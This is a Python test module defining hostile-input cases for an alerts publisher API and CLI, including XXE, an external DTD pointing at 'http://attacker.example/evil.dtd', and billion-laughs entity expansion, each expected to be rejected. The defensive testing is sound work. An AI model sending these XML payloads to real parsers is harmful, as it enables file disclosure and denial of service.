"""Documents the publisher API and `alerts normalize FILE` read with the same parsers: each
case is defined once and tried on both (the CLI must print the message the API answers)."""

from __future__ import annotations

from dataclasses import dataclass

from tests.hostile.case import CAP_TYPE, JSON_TYPE, Case, cli_case, publisher_case
from tests.hostile.payloads import BILLION_LAUGHS, XXE, advisory, cap


@dataclass(frozen=True)
class Both:
    id: str
    category: str
    body: bytes
    status: int  # the publisher API's; the CLI exits 2
    names: str  # both error messages must contain this
    content_type: str = JSON_TYPE  # the publisher API's; the CLI names the file after it
    http: bool = False  # the publisher API's case also goes over HTTP

    def for_publisher(self) -> Case:
        return publisher_case(
            self.id,
            self.category,
            self.body,
            self.status,
            self.names,
            content_type=self.content_type,
            http=self.http,
        )

    def for_cli(self) -> Case:
        filename = "alert.cap" if self.content_type == CAP_TYPE else "input.json"
        return cli_case(self.id, self.category, self.body, self.names, filename=filename)


DUPLICATE_KEY = Both(
    "json-duplicate-key",
    "malformed JSON",
    b'{"level": 1, ' + advisory()[1:],
    400,
    "duplicate key 'level'",
)

HUGE_INTEGER = Both(
    "json-huge-integer",
    "malformed JSON",
    advisory(level=0).replace(b'"level": 0', b'"level": ' + b"9" * 5000),
    400,
    "JSON number not accepted",
)

UNKNOWN_FIELD = Both(
    "unknown-field",
    "unknown fields",
    advisory(is_urgent=True),
    422,
    "is_urgent: Extra inputs are not permitted",
)

COUNTRY_ZZ = Both(
    "country-zz",
    "unknown countries",
    advisory(countries=["ZZ"]),
    422,
    "countries.0: Value error, 'ZZ' is not an ISO 3166-1 alpha-2",
    http=True,
)

CAP_SENT_YEAR_1 = Both(
    "cap-sent-year-1",
    "absurd dates",
    cap(**{"<sent>2022": "<sent>0001"}),
    422,
    "sent: Value error, year 1 is out of range",
    content_type=CAP_TYPE,
)

HOTLINE_UNASSIGNED_CODE = Both(
    "hotline-unassigned-code",
    "invalid phone numbers",
    advisory(hotlines=[{"number": "+9991234567"}]),
    422,
    "hotlines.0.number: Value error, not a valid phone number",
)

XXE_FILE_PASSWD = Both(
    "xxe-file-passwd",
    "XXE",
    cap(XXE, **{"Civil unrest": "&xxe;"}),
    422,
    "DTDs are not accepted (possible XXE): <!DOCTYPE alert> and 1 entity declaration(s)",
    content_type=CAP_TYPE,
    http=True,
)

XXE_EXTERNAL_DTD = Both(
    "xxe-external-dtd",
    "XXE",
    cap('<!DOCTYPE alert SYSTEM "http://attacker.example/evil.dtd">'),
    422,
    "with system id 'http://attacker.example/evil.dtd'",
    content_type=CAP_TYPE,
)

ENTITY_EXPANSION = Both(
    "billion-laughs",
    "entity expansion",
    cap(BILLION_LAUGHS, **{"Civil unrest": "&lol9;"}),
    422,
    "and 10 entity declaration(s)",
    content_type=CAP_TYPE,
)

XML_NOT_WELL_FORMED = Both(
    "xml-not-well-formed",
    "malformed XML",
    cap(**{"</info>": ""}),
    422,
    "XML: not well-formed: mismatched tag",
    content_type=CAP_TYPE,
)
